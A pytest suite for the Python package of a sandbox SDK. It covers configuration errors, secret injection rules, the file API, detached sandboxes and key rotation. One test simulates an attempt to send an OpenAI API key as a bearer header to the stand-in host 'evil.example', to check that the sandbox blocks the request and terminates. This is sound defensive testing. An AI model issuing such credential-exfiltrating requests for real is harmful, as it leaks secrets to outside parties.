"""The rest of the package: validation errors (the Rust SDK's own messages), build(), exec
output, the file API, stop and context managers, block-and-terminate, the synchronous
convenience, detached sandboxes. The same scenarios as the TypeScript package's sdk.test.ts."""

import asyncio
import json
import os
import tempfile

import pytest

from standin import Sandbox, SecretBuilder, StandinError, ViolationActions

from fake_internet import VALUES, assert_substituted, connections, request

IMAGE = "registry.test:5000/python"
RUST_ERRORS = json.loads(os.environ.get("STANDIN_TEST_RUST_ERRORS", "{}"))


def test_invalid_configuration_raises_the_rust_sdk_message():
    assert RUST_ERRORS.get("badEnv") and RUST_ERRORS.get("noHost"), "expected messages were not passed"

    async def bad_env():
        await (
            Sandbox.builder("agent")
            .secret(lambda s: s.env("BAD=NAME").value("v").allow_host("api.openai.com"))
            .create()
        )

    with pytest.raises(StandinError) as e:
        asyncio.run(bad_env())
    assert str(e.value) == RUST_ERRORS["badEnv"]
    with pytest.raises(StandinError) as e:
        SecretBuilder().env("OPENAI_API_KEY").value("v").build()
    assert str(e.value) == RUST_ERRORS["noHost"]
    with pytest.raises(StandinError, match=r"SandboxBuilder\.secret_env\(\): argument 2 must be a string, got null"):
        Sandbox.builder("agent").secret_env("OPENAI_API_KEY", None, "api.openai.com").create_sync()
    with pytest.raises(StandinError):
        Sandbox.builder("agent").secret(lambda s: SecretBuilder())


def test_build_materializes_the_entry_with_the_defaults():
    e = SecretBuilder().env("OPENAI_API_KEY").value("sk-1").allow_host("api.openai.com").build()
    assert (e.env_var, e.value, e.placeholder) == ("OPENAI_API_KEY", "sk-1", "$MSB_OPENAI_API_KEY")
    assert e.allowed_hosts == ("api.openai.com",)
    assert (e.allow_any_host, e.require_tls_identity) == (False, True)
    assert (e.injection.headers, e.injection.basic_auth) == (True, True)
    assert (e.injection.query_params, e.injection.body) == (False, False)
    assert "sk-1" not in repr(e)
    with pytest.raises(StandinError):
        SecretBuilder().env("K").value("v").allow_any_host_dangerous(False).build()
    assert SecretBuilder().env("K").value("v").dangerous().allow_any_host().build().allow_any_host
    v = (
        SecretBuilder()
        .env("K").value("v").allow_host("a.example")
        .on_violation(lambda b: b.block_and_terminate().passthrough_host("b.example"))
        .build()
        .on_violation
    )
    assert (v.action, v.passthrough_hosts, v.passthrough_all_hosts) == (
        "block-and-terminate", ("b.example",), False)
    assert ViolationActions == ("block", "block-and-log", "block-and-terminate", "passthrough")


def test_exec_output_the_file_api_and_stop():
    async def main():
        host = tempfile.mkdtemp(prefix="standin-py-")
        sb = await Sandbox.builder("files").image(IMAGE).memory("256M").pids(64).create()
        try:
            out = await sb.exec("sh", ["-c", "printf 'caf\\303\\251\\377'; echo err >&2; exit 3"])
            assert (out.code, out.success) == (3, False)
            assert out.stdout == b"caf\xc3\xa9\xff"
            assert out.stderr_text() == "err\n"
            fs = sb.fs()
            await fs.write("/tmp/task.json", '{"goal":"triage"}')
            assert await fs.read_to_string("/tmp/task.json") == '{"goal":"triage"}'
            await fs.write("/tmp/bytes", b"\x00\x01\xff")
            assert await fs.read("/tmp/bytes") == b"\x00\x01\xff"
            st = await fs.stat("/tmp/bytes")
            assert (st.kind, st.size) == ("file", 3)
            assert any(e.name == "task.json" for e in await fs.list("/tmp"))
            with open(os.path.join(host, "in.txt"), "w") as f:
                f.write("from the host")
            await fs.copy_from_host(os.path.join(host, "in.txt"), "/tmp/in.txt")
            assert (await sb.exec("busybox", ["cat", "/tmp/in.txt"])).stdout == b"from the host"
            await sb.exec("sh", ["-c", "echo made inside > /tmp/out.txt"])
            await fs.copy_to_host("/tmp/out.txt", os.path.join(host, "out.txt"))
            with open(os.path.join(host, "out.txt")) as f:
                assert f.read() == "made inside\n"
            await fs.remove("/tmp/task.json")
            assert await fs.exists("/tmp/task.json") is False
            with pytest.raises(StandinError):
                await fs.read("/tmp/none")
        finally:
            sb.stop()
        with pytest.raises(StandinError):
            await sb.exec("sh", ["-c", "exit 0"])

    asyncio.run(main())


def test_async_with_stops_the_sandbox():
    async def main():
        async with Sandbox.builder("scoped").image(IMAGE).create() as sb:
            assert (await sb.exec("sh", ["-c", "exit 0"])).code == 0
        with pytest.raises(StandinError):
            await sb.exec("sh", ["-c", "exit 0"])

    asyncio.run(main())


def test_the_synchronous_convenience():
    with (
        Sandbox.builder("sync")
        .image(IMAGE)
        .secret_env("OPENAI_API_KEY", os.environ["OPENAI_API_KEY"], "api.openai.com")
        .create_sync()
    ) as sb:
        out = sb.exec_sync("python", ["agent.py"])
        assert (out.code, out.stdout_text()) == (0, "200")
    with pytest.raises(StandinError):
        sb.exec_sync("sh", ["-c", "exit 0"])


def test_block_and_terminate_ends_the_whole_sandbox():
    async def main():
        async with (
            Sandbox.builder("agent")
            .image(IMAGE)
            .network(
                lambda n: n.secret_env(
                    "OPENAI_API_KEY", os.environ["OPENAI_API_KEY"], "api.openai.com"
                ).on_secret_violation(lambda v: v.block_and_terminate())
            )
            .create()
        ) as sb:
            try:
                status, _ = await request(sb, "evil.example", "Authorization: Bearer $OPENAI_API_KEY")
            except StandinError:
                status = "killed"
            assert status != "200"
            await sb.wait()
            assert sb.terminated_by_violation is True
            with pytest.raises(StandinError):
                await sb.exec("sh", ["-c", "exit 0"])
        for c in connections():
            if c.sni == "evil.example":
                assert VALUES["OPENAI_API_KEY"] not in c.data and "$MSB_" not in c.data

    asyncio.run(main())


def test_a_detached_sandbox_is_found_listed_and_removed():
    async def main():
        name = f"py-detached-{os.getpid()}"
        sb = await Sandbox.builder(name).image(IMAGE).detached().create()
        assert sb.is_detached
        await sb.exec("sh", ["-c", "echo kept > /tmp/state"])
        again = await Sandbox.get(name)
        assert again.id == sb.id
        assert (await again.exec("busybox", ["cat", "/tmp/state"])).stdout == b"kept\n"
        listed = [i for i in Sandbox.list() if i["name"] == name]
        assert listed and listed[0]["state"] == "running"
        await Sandbox.remove(name, force=True)
        assert not any(i["name"] == name for i in Sandbox.list())
        with pytest.raises(StandinError):
            await Sandbox.get(name)

    asyncio.run(main())


def test_update_secret_rotates_a_value_without_a_restart():
    async def main():
        async with (
            Sandbox.builder("agent")
            .image(IMAGE)
            .network(
                lambda n: n.secret_env("OPENAI_API_KEY", "sk-py-before-rotation", "api.openai.com")
            )
            .create()
        ) as sb:
            before = await request(sb, "api.openai.com", "Authorization: Bearer $OPENAI_API_KEY")
            await sb.update_secret("OPENAI_API_KEY", "sk-py-after-rotation")
            after = await request(sb, "api.openai.com", "Authorization: Bearer $OPENAI_API_KEY")
            assert (before[0], after[0]) == ("200", "200")
            assert_substituted(before[1], "api.openai.com", "sk-py-before-rotation")
            assert_substituted(after[1], "api.openai.com", "sk-py-after-rotation")
            with pytest.raises(StandinError, match="no secret NOPE"):
                await sb.update_secret("NOPE", "x")

    asyncio.run(main())
